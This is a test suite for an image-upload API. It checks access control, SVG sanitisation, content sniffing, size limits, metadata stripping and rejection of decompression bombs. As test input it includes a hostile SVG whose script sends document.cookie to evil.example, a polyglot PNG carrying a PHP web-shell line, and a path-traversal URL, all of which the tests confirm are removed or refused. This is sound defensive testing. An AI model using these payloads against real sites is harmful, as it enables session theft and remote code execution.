import { existsSync } from 'node:fs';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatMessage, IMAGE_MAX_BYTES, ReturnCode, type UploadResult } from '@atrium/contract';
import { createTestApp, type TestApp } from '../../test/app.js';
import { TEST_DIALECT } from '../../test/database.js';
import { JPEG_BYTES, MULTIPART_HEADERS, multipartImage, onePixelColourPng, PNG_BYTES, PNG_IEND } from '../../test/uploads.js';

describe(`upload (${TEST_DIALECT})`, () => {
  let t: TestApp;
  let companyId: number;
  let admin: string;
  let staff: string;
  let stranger: string;

  beforeAll(async () => {
    t = await createTestApp();
    const a = await t.factories.companyWithAdmin();
    const b = await t.factories.companyWithAdmin();
    companyId = a.company.id;
    admin = await t.factories.session(a.admin);
    staff = await t.factories.session(await t.factories.user(companyId, { permissions: ['accountGlobal:view'] }));
    stranger = await t.factories.session(b.admin);
  });
  afterAll(() => t.cleanup());

  const upload = async (token: string, options: Parameters<typeof multipartImage>[0] = {}) => {
    const response = await t.app.inject({ method: 'POST', url: '/api/upload', headers: { token, ...MULTIPART_HEADERS }, payload: multipartImage(options) });
    return { status: response.statusCode, body: response.json() as { returncode: number; message: string; result: UploadResult } };
  };

  it('stores a png under the data folder and serves it back to the same company only', async () => {
    const answer = await upload(admin);
    expect(answer.status).toBe(200);
    const { fileUrl, mimeType, size } = answer.body.result;
    expect(fileUrl).toMatch(new RegExp(`^/api/upload/files/${companyId}/[A-Za-z0-9_-]+\\.png$`));
    expect(mimeType).toBe('image/png');
    expect(existsSync(path.join(t.config.dataDir, 'uploads', String(companyId), path.basename(fileUrl)))).toBe(true);

    const served = await t.app.inject({ method: 'GET', url: fileUrl, headers: { token: staff } });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    // The stored file is the image decoded and written again: the same pixels, its own bytes.
    expect(served.rawPayload.length).toBe(size);
    expect(await sharp(served.rawPayload).raw().toBuffer()).toEqual(await sharp(PNG_BYTES).raw().toBuffer());

    const foreign = await t.app.inject({ method: 'GET', url: fileUrl, headers: { token: stranger } });
    expect(foreign.statusCode).toBe(404);
    expect(foreign.json()).toMatchObject({ returncode: ReturnCode.NOT_FOUND });
    expect((await t.app.inject({ method: 'GET', url: fileUrl })).statusCode).toBe(401);
    const unknown = await t.app.inject({ method: 'GET', url: `/api/upload/files/${companyId}/..%2F..%2Fatrium.db`, headers: { token: admin } });
    expect(unknown.statusCode).toBe(404);
  });

  it('takes an SVG icon only once cleaned: no script, handler, HTML or outside link survives', async () => {
    const hostile = Buffer.from(
      [
        '<?xml version="1.0"?>',
        '<!-- a region icon -->',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24" onload="alert(1)">',
        '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#0a7"/></linearGradient></defs>',
        '<path d="M12 2 L22 22 L2 22 Z" fill="url(#g)" onclick="alert(2)" style="background:url(https://evil.example/x)"/>',
        '<use xlink:href="#g"/><use href="https://evil.example/sprite.svg#icon"/>',
        '<a href="javascript:alert(3)"><circle cx="12" cy="12" r="3"/></a>',
        '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"></iframe></foreignObject>',
        '</svg>',
      ].join('\n'),
    );
    const answer = await upload(admin, { kind: 'icon', content: hostile, fileName: 'pin.svg', contentType: 'image/svg+xml' });
    expect(answer.status, answer.body.message).toBe(200);
    expect(answer.body.result.fileUrl).toMatch(/\.svg$/);
    expect(answer.body.result.mimeType).toBe('image/svg+xml');

    const served = await t.app.inject({ method: 'GET', url: answer.body.result.fileUrl, headers: { token: staff } });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/svg+xml');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-security-policy']).toContain('sandbox');
    const svg = served.body;
    // The drawing stays...
    expect(svg).toContain('<path d="M12 2 L22 22 L2 22 Z"');
    expect(svg).toContain('<circle');
    expect(svg).toContain('fill="url(#g)"');
    expect(svg).toContain('<linearGradient id="g"');
    // ...and nothing that runs or reaches out.
    for (const gone of ['<script', 'onload', 'onclick', 'javascript:', 'foreignObject', 'iframe', 'evil.example', 'document.cookie', 'style=']) {
      expect(svg, gone).not.toContain(gone);
    }
  });

  it('refuses an SVG for anything but an icon, and a document that only pretends to be one', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>');
    const avatar = await upload(admin, { kind: 'avatar', content: svg, fileName: 'me.svg', contentType: 'image/svg+xml' });
    expect([avatar.status, avatar.body.returncode, avatar.body.message]).toEqual([415, ReturnCode.UNSUPPORTED_MEDIA_TYPE, 'Please upload png, jpeg, jpg format file']);
    const html = Buffer.from('<html><body><svg><script>alert(1)</script></svg></body></html>');
    const disguised = await upload(admin, { kind: 'icon', content: html, fileName: 'icon.svg', contentType: 'image/svg+xml' });
    expect([disguised.status, disguised.body.message]).toEqual([415, 'Please upload png, jpeg, jpg, svg format file']);
    const pngIcon = await upload(admin, { kind: 'icon' });
    expect([pngIcon.status, pngIcon.body.result.mimeType]).toEqual([200, 'image/png']);
  });

  it('names a jpeg .jpg whatever the client called it', async () => {
    const answer = await upload(admin, { content: JPEG_BYTES, fileName: 'photo.jpeg', contentType: 'image/jpeg', kind: 'avatar' });
    expect(answer.status).toBe(200);
    expect(answer.body.result.fileUrl).toMatch(/\.jpg$/);
    expect(answer.body.result.mimeType).toBe('image/jpeg');
  });

  it.each([
    ['a renamed executable', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]), 'setup.png'],
    ['an SVG', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'logo.png'],
    ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'binary'), 'logo.jpg'],
    ['plain text', Buffer.from('hello'), 'logo.png'],
  ])('refuses %s by its content with the accepted formats named', async (_label, content, fileName) => {
    const answer = await upload(admin, { content, fileName });
    expect(answer.status).toBe(415);
    expect(answer.body).toMatchObject({ returncode: ReturnCode.UNSUPPORTED_MEDIA_TYPE, message: 'Please upload png, jpeg, jpg format file' });
  });

  it('refuses a file over 2 MB with 413/1006 and the limit', async () => {
    const content = Buffer.concat([PNG_BYTES, Buffer.alloc(IMAGE_MAX_BYTES, 0)]);
    const answer = await upload(admin, { content });
    expect(answer.status).toBe(413);
    expect(answer.body).toMatchObject({ returncode: ReturnCode.PAYLOAD_TOO_LARGE, message: 'The file must not exceed 2 MB' });
  });

  it('accepts a file of exactly 2 MB', async () => {
    const content = Buffer.concat([PNG_BYTES, Buffer.alloc(IMAGE_MAX_BYTES - PNG_BYTES.length, 0)]);
    expect((await upload(admin, { content })).status).toBe(200);
  });

  it('lets only company administrators upload a logo; anyone an avatar', async () => {
    const logo = await upload(staff, { kind: 'logo' });
    expect(logo.status).toBe(403);
    expect(logo.body.returncode).toBe(ReturnCode.NO_PERMISSION);
    expect((await upload(staff, { kind: 'avatar' })).status).toBe(200);
    expect((await upload(staff, { kind: 'banner' })).status).toBe(400);
  });

  it('asks for a file when none is sent', async () => {
    const noFile = await upload(admin, { fileField: 'other' });
    expect(noFile.status).toBe(400);
    expect(noFile.body.message).toBe('Please choose a file to upload');
    const json = await t.app.inject({ method: 'POST', url: '/api/upload', headers: { token: admin }, payload: { file: 'x' } });
    expect(json.statusCode).toBe(400);
  });
  describe('stores every raster image decoded and written again (issue 16, finding 7)', () => {
    const stored = async (fileUrl: string) => (await t.app.inject({ method: 'GET', url: fileUrl, headers: { token: admin } })).rawPayload;
    const noisePng = () => sharp({ create: { width: 64, height: 48, channels: 3, background: '#000', noise: { type: 'gaussian', mean: 128, sigma: 40 } } }).png().toBuffer();

    it('drops whatever follows the image data (a polyglot): the stored PNG ends with its IEND chunk', async () => {
      const image = await noisePng();
      const polyglot = Buffer.concat([image, Buffer.from('PK\x03\x04<script>alert(document.cookie)</script><?php system($_GET["c"]); ?>', 'latin1')]);
      const answer = await upload(admin, { content: polyglot, kind: 'image' });
      expect([answer.status, answer.body.result.mimeType], answer.body.message).toEqual([200, 'image/png']);
      const content = await stored(answer.body.result.fileUrl);
      for (const gone of ['<script', '<?php', 'PK\x03\x04']) expect(content.includes(Buffer.from(gone, 'latin1')), gone).toBe(false);
      expect(content.subarray(-PNG_IEND.length).equals(PNG_IEND)).toBe(true);
      const decoded = await sharp(content).metadata();
      expect([decoded.format, decoded.width, decoded.height]).toEqual(['png', 64, 48]);
      expect(await sharp(content).raw().toBuffer()).toEqual(await sharp(image).raw().toBuffer());
    });

    it('keeps a JPEG a JPEG, turned upright by its EXIF orientation, without EXIF (GPS) or other metadata', async () => {
      // 40 wide, 20 high, taken with the camera turned: orientation 6 (rotate 90° clockwise to view).
      const photo = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#c33' } })
        .jpeg({ quality: 95 })
        .withMetadata({ orientation: 6 })
        .withExif({ IFD0: { Make: 'SpyCam', Model: 'Pocket' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 26/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 39/1', GPSMapDatum: 'WGS-84' } })
        .toBuffer();
      const before = await sharp(photo).metadata();
      expect([before.orientation, photo.includes(Buffer.from('WGS-84')), photo.includes(Buffer.from('SpyCam'))]).toEqual([6, true, true]);
      const answer = await upload(admin, { content: photo, fileName: 'holiday.jpg', contentType: 'image/jpeg', kind: 'avatar' });
      expect([answer.status, answer.body.result.mimeType], answer.body.message).toEqual([200, 'image/jpeg']);
      expect(answer.body.result.fileUrl).toMatch(/\.jpg$/);
      const content = await stored(answer.body.result.fileUrl);
      const after = await sharp(content).metadata();
      expect([after.format, after.width, after.height, after.orientation, after.exif, after.xmp, after.iptc]).toEqual(['jpeg', 20, 40, undefined, undefined, undefined, undefined]);
      for (const gone of ['WGS-84', 'SpyCam', 'Exif']) expect(content.includes(Buffer.from(gone)), gone).toBe(false);
      // Good quality: the colour survives.
      const { dominant } = await sharp(content).stats();
      expect(Math.abs(dominant.r - 0xcc)).toBeLessThan(24);
    });

    it('refuses a truncated PNG or JPEG as the wrong format (415/1013), in both languages', async () => {
      const png = await noisePng();
      const jpeg = await sharp(png).jpeg().toBuffer();
      for (const [content, fileName] of [[png.subarray(0, Math.floor(png.length / 2)), 'cut.png'], [jpeg.subarray(0, Math.floor(jpeg.length / 2)), 'cut.jpg']] as const) {
        for (const lang of ['en-US', 'zh-CN'] as const) {
          const response = await t.app.inject({ method: 'POST', url: '/api/upload', headers: { token: admin, lang, ...MULTIPART_HEADERS }, payload: multipartImage({ content, fileName, kind: 'image' }) });
          expect([response.statusCode, response.json().returncode, response.json().message], fileName).toEqual([
            415,
            ReturnCode.UNSUPPORTED_MEDIA_TYPE,
            formatMessage('uploadWrongFormat', lang, { formats: 'png, jpeg, jpg' }),
          ]);
        }
      }
    });

    it('refuses a decompression bomb: a small PNG of 30000 x 30000 pixels answers 413/1006 without being decoded', async () => {
      const bomb = await onePixelColourPng(30_000, 30_000);
      expect(bomb.length).toBeLessThan(IMAGE_MAX_BYTES);
      for (const lang of ['en-US', 'zh-CN'] as const) {
        const response = await t.app.inject({ method: 'POST', url: '/api/upload', headers: { token: admin, lang, ...MULTIPART_HEADERS }, payload: multipartImage({ content: bomb, kind: 'image' }) });
        expect([response.statusCode, response.json().returncode]).toEqual([413, ReturnCode.PAYLOAD_TOO_LARGE]);
        expect(response.json().message).toBe(formatMessage('uploadTooLarge', lang, { limit: '40 MP' }));
      }
    });
  });
});
